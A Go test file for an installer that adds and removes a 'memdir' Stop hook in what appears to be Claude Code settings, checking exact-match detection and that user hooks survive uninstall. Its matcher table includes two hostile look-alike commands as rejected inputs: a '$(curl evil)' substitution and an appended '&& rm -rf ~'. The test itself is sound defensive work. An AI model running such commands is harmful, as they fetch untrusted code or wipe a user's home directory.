package claudeinstall

import (
	"strings"
	"testing"
)

func TestIsMemdir(t *testing.T) {
	for cmd, want := range map[string]bool{
		"/usr/local/bin/memdir hook Stop":                   true,
		"'/Users/a b/bin/memdir' hook Stop":                 true,
		`C:\tools\memdir.exe hook Stop`:                     true,
		"memdir hook Stop":                                  true,
		"notify-send done; /usr/local/bin/memdir hook Stop": false,
		"/home/u/bin/memdir-notify hook Stop":               false,
		"sh -c 'memdir' hook Stop":                          false,
		"/usr/local/bin/memdir hook SessionStart":           false, // another event
		"$(curl evil) /usr/local/bin/memdir hook Stop":      false,
		"/usr/local/bin/memdir hook Stop && rm -rf ~":       false,
	} {
		if got := isMemdir(cmd, "Stop"); got != want {
			t.Errorf("isMemdir(%q) = %v, want %v", cmd, got, want)
		}
	}
}

func TestUninstall_KeepsWhatIsNotMemdirs(t *testing.T) {
	in := `{"hooks":{"PreCompact":["x",null,{"hooks":"odd"}],"Stop":[{"hooks":[{"type":"command","command":"notify-send done; /usr/local/bin/memdir hook Stop"},{"type":"command","command":"/opt/memdir hook Stop"}]}]}}`
	doc, err := Parse([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	if !Uninstall(doc) {
		t.Fatal("memdir's own hook was not removed")
	}
	out := string(Encode(doc))
	for _, want := range []string{`"x"`, "null", `"odd"`, "notify-send done; /usr/local/bin/memdir hook Stop"} {
		if !strings.Contains(out, want) {
			t.Errorf("uninstall lost %s:\n%s", want, out)
		}
	}
	if strings.Contains(out, "/opt/memdir hook Stop") {
		t.Errorf("memdir's hook is still there:\n%s", out)
	}
	// Install next to a look-alike adds memdir's own instead of rewriting it.
	if changed, err := Install(doc, "/usr/bin/memdir"); err != nil || !changed {
		t.Fatalf("install: %v %v", changed, err)
	}
	if out := string(Encode(doc)); !strings.Contains(out, "notify-send done; /usr/local/bin/memdir hook Stop") || !strings.Contains(out, `"/usr/bin/memdir hook Stop"`) {
		t.Errorf("install rewrote a user's hook:\n%s", out)
	}
}
